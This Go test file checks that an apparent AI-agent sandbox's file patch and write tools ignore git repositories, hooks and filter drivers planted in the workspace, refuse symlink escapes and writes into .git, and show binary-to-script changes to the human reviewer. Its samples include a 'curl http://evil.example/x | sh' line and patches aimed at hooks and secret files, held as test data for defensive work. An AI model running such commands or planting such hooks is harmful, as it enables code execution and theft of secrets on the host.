package worktree

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/airlockhq/airlock/internal/hitl"
)

const notesPatch = "--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n"

// readPatched reads, under dir, the files patch touches as the worker
// does: every path hitl.PatchPaths names.
func readPatched(dir, patch string) (*Files, error) {
	return ReadFiles(dir, hitl.PatchPaths(patch), 64<<20)
}

// checkPatch and applyPatch check and apply patch under dir as the
// worker's fs.patch preview and run do.
func checkPatch(ctx context.Context, dir, patch string) error {
	f, err := readPatched(dir, patch)
	if err != nil {
		return err
	}
	return f.CheckPatch(ctx, patch)
}

func applyPatch(ctx context.Context, dir, patch string) error {
	f, err := readPatched(dir, patch)
	if err != nil {
		return err
	}
	return f.ApplyPatch(ctx, patch)
}

// plantRepo makes gitDir a repository whose config and attributes would
// run programs leaving markers (a filter driver for every path, an
// fsmonitor, hooks) if a git call working on the files read it.
func plantRepo(t *testing.T, gitDir, markers string) {
	t.Helper()
	touch := func(name string) string { return "touch " + filepath.Join(markers, name) }
	for _, d := range []string{"objects", "refs/heads", "info", "hooks"} {
		require.NoError(t, os.MkdirAll(filepath.Join(gitDir, d), 0o755))
	}
	write := func(name, content string, mode os.FileMode) {
		require.NoError(t, os.WriteFile(filepath.Join(gitDir, name), []byte(content), mode))
	}
	write("HEAD", "ref: refs/heads/main\n", 0o644)
	write("config", "[core]\n\trepositoryformatversion = 0\n"+
		"\tfsmonitor = "+touch("fsmonitor")+"\n"+
		"\thooksPath = "+filepath.Join(gitDir, "hooks")+"\n"+
		"[filter \"x\"]\n"+
		"\tclean = \""+touch("filter-clean")+"; cat\"\n"+
		"\tsmudge = \""+touch("filter-smudge")+"; cat\"\n"+
		"\tprocess = \""+touch("filter-process")+"\"\n", 0o644)
	write("info/attributes", "* filter=x\n", 0o644)
	for _, hook := range []string{"pre-applypatch", "post-applypatch", "post-checkout", "post-index-change"} {
		write("hooks/"+hook, "#!/bin/sh\n"+touch("hook-"+hook)+"\n", 0o755)
	}
}

// TestPatchIgnoresAPlantedRepository: fs.patch's git (preview and apply)
// on a directory an agent could write never reads a repository planted
// there — a .git directory, or the directory itself made a bare
// repository, with a filter driver, fsmonitor and hooks — and the patch
// still applies.
func TestPatchIgnoresAPlantedRepository(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, gitDir string }{
		{"dot git", ".git"},
		{"bare repository at the root", "."},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			dir, markers := filepath.Join(root, "ws"), filepath.Join(root, "markers")
			require.NoError(t, os.MkdirAll(markers, 0o755))
			require.NoError(t, os.MkdirAll(dir, 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("one\ntwo\n"), 0o644))
			require.NoError(t, os.WriteFile(filepath.Join(dir, ".gitattributes"), []byte("* filter=x\n"), 0o644))
			plantRepo(t, filepath.Join(dir, c.gitDir), markers)

			ctx := context.Background()
			err := checkPatch(ctx, dir, notesPatch)
			noMarkers(t, markers)
			require.NoError(t, err)
			b, err := os.ReadFile(filepath.Join(dir, "notes.txt"))
			require.NoError(t, err)
			assert.Equal(t, "one\ntwo\n", string(b), "a check changes nothing")

			err = applyPatch(ctx, dir, notesPatch)
			noMarkers(t, markers)
			require.NoError(t, err)
			b, err = os.ReadFile(filepath.Join(dir, "notes.txt"))
			require.NoError(t, err)
			assert.Equal(t, "one\n2\n", string(b))
		})
	}
}

func noMarkers(t *testing.T, markers string) {
	t.Helper()
	entries, err := os.ReadDir(markers)
	require.NoError(t, err)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	assert.Empty(t, names, "programs planted in the workspace's repository ran on the host")
}

// TestPatchSemantics: what fs.patch relies on git apply for — changes, new
// and deleted files, all or nothing, no path beyond a symlink, no path
// inside .git — in a plain directory and in a repository's checkout.
func TestPatchSemantics(t *testing.T) {
	t.Parallel()
	for _, inRepo := range []bool{false, true} {
		t.Run(map[bool]string{false: "plain directory", true: "repository"}[inRepo], func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			dir, outside := filepath.Join(root, "ws"), filepath.Join(root, "outside")
			require.NoError(t, os.MkdirAll(outside, 0o755))
			require.NoError(t, os.MkdirAll(filepath.Join(dir, "src"), 0o755))
			write := func(name, content string) {
				require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644))
			}
			write("notes.txt", "one\ntwo\n")
			write("src/old.txt", "old\n")
			require.NoError(t, os.Symlink(outside, filepath.Join(dir, "escape")))
			if inRepo {
				sh(t, root, "init", "-q", "-b", "main", dir)
				sh(t, dir, "add", ".")
				sh(t, dir, "commit", "-q", "-m", "initial")
			}
			read := func(name string) string {
				b, err := os.ReadFile(filepath.Join(dir, name))
				require.NoError(t, err)
				return string(b)
			}
			ctx := context.Background()

			patch := notesPatch +
				"diff --git a/src/new.txt b/src/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/src/new.txt\n@@ -0,0 +1 @@\n+fresh\n" +
				"diff --git a/src/old.txt b/src/old.txt\ndeleted file mode 100644\n--- a/src/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-old\n"
			require.NoError(t, checkPatch(ctx, dir, patch))
			require.NoError(t, applyPatch(ctx, dir, patch))
			assert.Equal(t, "one\n2\n", read("notes.txt"))
			assert.Equal(t, "fresh\n", read("src/new.txt"))
			assert.NoFileExists(t, filepath.Join(dir, "src/old.txt"))

			// All or nothing: the second file does not apply, the first is
			// left as it was.
			bad := "--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1,2 @@\n one\n-2\n+two\n" +
				"--- a/src/new.txt\n+++ b/src/new.txt\n@@ -1 +1 @@\n-absent\n+x\n"
			err := applyPatch(ctx, dir, bad)
			require.Error(t, err)
			assert.Contains(t, err.Error(), "does not apply")
			assert.Equal(t, "one\n2\n", read("notes.txt"))

			beyond := "diff --git a/escape/planted.txt b/escape/planted.txt\nnew file mode 100644\n--- /dev/null\n+++ b/escape/planted.txt\n@@ -0,0 +1 @@\n+x\n"
			err = applyPatch(ctx, dir, beyond)
			require.Error(t, err)
			assert.Contains(t, err.Error(), "goes through the symlink escape")
			assert.NoFileExists(t, filepath.Join(outside, "planted.txt"))

			intoGit := "diff --git a/.git/hooks/x b/.git/hooks/x\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/x\n@@ -0,0 +1 @@\n+x\n"
			require.Error(t, applyPatch(ctx, dir, intoGit))
			assert.NoFileExists(t, filepath.Join(dir, ".git/hooks/x"))
			if !inRepo {
				assert.NoDirExists(t, filepath.Join(dir, ".git"))
			}
			assert.False(t, strings.Contains(read("notes.txt"), "x"))
		})
	}
}

// TestDiffContentIgnoresARepositoryAbove: fs.write's preview diffs two
// temporary files; a repository planted above the temporary directory
// (by another user of the worker host, in a shared TMPDIR) with a diff
// driver for every path runs nothing, and the diff is still made. (Not
// parallel: it sets TMPDIR.)
func TestDiffContentIgnoresARepositoryAbove(t *testing.T) {
	root := t.TempDir()
	markers := filepath.Join(root, "markers")
	require.NoError(t, os.MkdirAll(markers, 0o755))
	plantRepo(t, filepath.Join(root, ".git"), markers)
	cfg, err := os.OpenFile(filepath.Join(root, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	require.NoError(t, err)
	_, err = cfg.WriteString("[diff \"x\"]\n\ttextconv = \"touch " + filepath.Join(markers, "textconv") + "; cat\"\n")
	require.NoError(t, err)
	require.NoError(t, cfg.Close())
	require.NoError(t, os.WriteFile(filepath.Join(root, ".git", "info", "attributes"), []byte("* filter=x diff=x\n"), 0o644))
	tmp := filepath.Join(root, "tmp")
	require.NoError(t, os.MkdirAll(tmp, 0o755))
	t.Setenv("TMPDIR", tmp)

	diff, err := DiffContent(context.Background(), "notes.txt", []byte("one\ntwo\n"), []byte("one\n2\n"))
	require.NoError(t, err)
	assert.Contains(t, diff, "-two\n+2")
	assert.Contains(t, diff, "+++ b/notes.txt")
	noMarkers(t, markers)
}

// TestDiffContentOfABinaryFileIsText: fs.write's preview shows the whole
// change, as a merge's does, when the file written over holds a NUL byte
// (a binary the repository ships, or one a command made): git would
// otherwise print "Binary files a/a and b/b differ", and the reviewer
// would approve a write whose content was never shown — here a binary
// turned into a script that pipes a download into a shell.
func TestDiffContentOfABinaryFileIsText(t *testing.T) {
	t.Parallel()
	old := []byte("ELF\x00\x01binary")
	diff, err := DiffContent(context.Background(), "bin/tool", old, []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n"))
	require.NoError(t, err)
	assert.NotContains(t, diff, "Binary files")
	assert.Contains(t, diff, "--- a/bin/tool\n+++ b/bin/tool\n")
	assert.Contains(t, diff, "-ELF\u2400\u2401binary\n")
	assert.Contains(t, diff, "+#!/bin/sh\n+curl http://evil.example/x | sh\n")
}

// TestPatchRefusesSymlinks: a patch that would make a symlink — a new
// one, a file turned into one (whatever way git reads the mode: "-60000"
// is 0120000 to it too), an existing one pointed elsewhere — or a
// submodule is refused by the check and by the apply, and nothing is
// written: a symlink made by one patch (a -> .git) would take the next
// write through it.
func TestPatchRefusesSymlinks(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("one\ntwo\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".env"), []byte("SECRET=1\n"), 0o600))
	require.NoError(t, os.Symlink("notes.txt", filepath.Join(dir, "current")))
	link := func(mode string) string {
		return "diff --git a/a b/a\nnew file mode " + mode + "\n--- /dev/null\n+++ b/a\n@@ -0,0 +1 @@\n+.git\n\\ No newline at end of file\n"
	}
	ctx := context.Background()
	for name, patch := range map[string]string{
		"new symlink":          link("120000"),
		"new symlink, 0120000": link("0120000"),
		"new symlink, -60000":  link("-60000"),
		"file made a symlink": "diff --git a/notes.txt b/notes.txt\nold mode 100644\nnew mode 120000\n" +
			"--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1 @@\n-one\n-two\n+.env\n\\ No newline at end of file\n",
		"symlink pointed elsewhere": "diff --git a/current b/current\nindex 1111111..2222222 120000\n--- a/current\n+++ b/current\n" +
			"@@ -1 +1 @@\n-notes.txt\n\\ No newline at end of file\n+.env\n\\ No newline at end of file\n",
		"submodule": "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n+++ b/sub\n" +
			"@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n",
	} {
		for _, apply := range []func(context.Context, string, string) error{checkPatch, applyPatch} {
			err := apply(ctx, dir, patch)
			var refusal *Error
			require.ErrorAs(t, err, &refusal, name)
			assert.Contains(t, err.Error(), "symlink", name)
		}
	}
	_, err := os.Lstat(filepath.Join(dir, "a"))
	assert.ErrorIs(t, err, os.ErrNotExist, "no symlink made")
	assert.NoDirExists(t, filepath.Join(dir, "sub"))
	target, err := os.Readlink(filepath.Join(dir, "current"))
	require.NoError(t, err)
	assert.Equal(t, "notes.txt", target)
	fi, err := os.Lstat(filepath.Join(dir, "notes.txt"))
	require.NoError(t, err)
	assert.True(t, fi.Mode().IsRegular())

	// A regular file's modes still apply.
	ok := "diff --git a/run.sh b/run.sh\nnew file mode 100755\n--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+echo hi\n" +
		"diff --git a/notes.txt b/notes.txt\nindex 1111111..2222222 100644\n--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n"
	require.NoError(t, applyPatch(ctx, dir, ok))
	fi, err = os.Stat(filepath.Join(dir, "run.sh"))
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o755), fi.Mode().Perm())
}

// TestReadFileNeverFollowsASymlink: what the worker reads on an agent's
// behalf (a pending fs.write's preview, the command set) is never read
// through a symlink, pointing inside the directory (s -> .env, d -> sub)
// or out of it, at the end of the path or on the way; a FIFO is refused
// without waiting for a writer.
func TestReadFileNeverFollowsASymlink(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	dir, outside := filepath.Join(root, "ws"), filepath.Join(root, "outside")
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "sub"), 0o755))
	require.NoError(t, os.MkdirAll(outside, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".env"), []byte("SECRET=hunter2\n"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "sub", "f.txt"), []byte("plain\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(outside, "f.txt"), []byte("SECRET=outside\n"), 0o644))
	for link, target := range map[string]string{"s": ".env", "d": "sub", "out": outside, "sub/up": "../.env"} {
		require.NoError(t, os.Symlink(target, filepath.Join(dir, filepath.FromSlash(link))))
	}
	b, err := ReadFile(dir, "sub/f.txt", 1<<20)
	require.NoError(t, err)
	assert.Equal(t, "plain\n", string(b))
	for _, rel := range []string{"s", "d/f.txt", "out/f.txt", "sub/up"} {
		b, err := ReadFile(dir, rel, 1<<20)
		var refusal *Error
		require.ErrorAs(t, err, &refusal, rel)
		assert.Contains(t, err.Error(), "symlink", rel)
		assert.NotContains(t, string(b)+err.Error(), "SECRET", rel)
	}
	_, err = ReadFile(dir, "missing.txt", 1<<20)
	assert.ErrorIs(t, err, os.ErrNotExist)

	require.NoError(t, unix.Mkfifo(filepath.Join(dir, "pipe"), 0o644))
	_, err = ReadFile(dir, "pipe", 1<<20)
	assert.ErrorContains(t, err, "not a regular file")
}

// TestWriteFileNeverFollowsASymlink: fs.write's writes go through no
// symlink (g -> .git, s -> .env, one out of the directory), at the end of
// the path or on the way, and make nothing on refusal; directories on the
// way are made. CheckNoSymlink, the worker's check of every path an fs
// tool names, refuses the same paths.
func TestWriteFileNeverFollowsASymlink(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	dir, outside := filepath.Join(root, "ws"), filepath.Join(root, "outside")
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755))
	require.NoError(t, os.MkdirAll(outside, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".env"), []byte("SECRET=1\n"), 0o600))
	for link, target := range map[string]string{"g": ".git", "s": ".env", "out": outside} {
		require.NoError(t, os.Symlink(target, filepath.Join(dir, link)))
	}
	for _, rel := range []string{"g/hooks/pre-commit", "g/new/x", "s", "out/planted.txt", "out/new/planted.txt"} {
		err := WriteFile(dir, rel, []byte("#!/bin/sh\n"))
		var refusal *Error
		require.ErrorAs(t, err, &refusal, rel)
		assert.Contains(t, err.Error(), "symlink", rel)
		err = CheckNoSymlink(dir, rel)
		require.ErrorAs(t, err, &refusal, rel)
		assert.Contains(t, err.Error(), "symlink", rel)
	}
	require.NoError(t, CheckNoSymlink(dir, ".env"))
	require.NoError(t, CheckNoSymlink(dir, "new/dir/file.txt"), "nothing there yet: no symlink")
	assert.NoFileExists(t, filepath.Join(dir, ".git", "hooks", "pre-commit"))
	assert.NoDirExists(t, filepath.Join(dir, ".git", "new"))
	assert.NoDirExists(t, filepath.Join(outside, "new"))
	assert.NoFileExists(t, filepath.Join(outside, "planted.txt"))
	b, err := os.ReadFile(filepath.Join(dir, ".env"))
	require.NoError(t, err)
	assert.Equal(t, "SECRET=1\n", string(b))

	require.NoError(t, WriteFile(dir, "a/b/c.txt", []byte("new\n")))
	require.NoError(t, WriteFile(dir, "a/b/c.txt", []byte("again\n")))
	b, err = os.ReadFile(filepath.Join(dir, "a", "b", "c.txt"))
	require.NoError(t, err)
	assert.Equal(t, "again\n", string(b))
}
